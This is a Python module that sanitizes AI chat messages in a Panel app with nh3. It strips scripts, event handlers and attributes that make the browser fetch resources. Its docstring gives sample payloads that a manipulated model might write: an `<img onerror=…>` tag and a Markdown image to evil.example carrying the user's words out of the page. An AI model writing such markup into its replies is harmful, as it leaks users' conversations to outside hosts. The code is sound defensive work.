"""Chat text on the page: Markdown, with the HTML it renders to cleaned (nh3, as Panel's sanitizer uses).

An agent's reply is text a model wrote, and a model can be talked into writing `<img onerror=…>` or,
quieter, `![x](https://evil.example/?q=what the user said)`: an image the browser fetches by itself,
sending the chat to another host. Panel's Markdown pane hands raw HTML to the browser as is, so every
chat message goes through here: no scripts or event handlers, and nothing the browser would load on
its own (no `src`, `srcset`, `background`, `poster` or `style` anywhere, whatever the host). Links stay
as links, `rel="noopener noreferrer"`, followed only when the person clicks them.
"""

from __future__ import annotations

import html
from typing import Any

import nh3
import panel as pn

# Attributes that make a browser fetch something without a click (or style, whose url() does).
FETCHING = frozenset({"src", "srcset", "lowsrc", "dynsrc", "background", "poster", "style", "data", "codebase",
                      "longdesc", "usemap", "ping", "action", "formaction", "xlink:href", "manifest", "icon"})
_TAGS = set(nh3.ALLOWED_TAGS) - {"area", "map"}
_ATTRIBUTES = {tag: set(names) - FETCHING for tag, names in nh3.ALLOWED_ATTRIBUTES.items()}
_SCHEMES = {"http", "https", "mailto"}


def clean(markup: str) -> str:
    """HTML with no active content and no resource the browser would load by itself."""
    return nh3.clean(markup, tags=_TAGS, attributes=_ATTRIBUTES, url_schemes=_SCHEMES, strip_comments=True,
                     link_rel="noopener noreferrer")


class SafeMarkdown(pn.pane.Markdown):
    """Markdown without scripts, event handlers, javascript: links or remote resources."""

    def _transform_object(self, obj: Any) -> dict[str, Any]:
        rendered = super()._transform_object(obj)
        return {**rendered, "object": html.escape(clean(html.unescape(rendered["object"])))}


def render(value: Any) -> SafeMarkdown:
    """A ChatMessage renderer: every string shown in the chat becomes a SafeMarkdown pane."""
    return SafeMarkdown(value, hard_line_break=True)  # type: ignore[no-untyped-call]  # Panel's Markdown.__init__ is unannotated
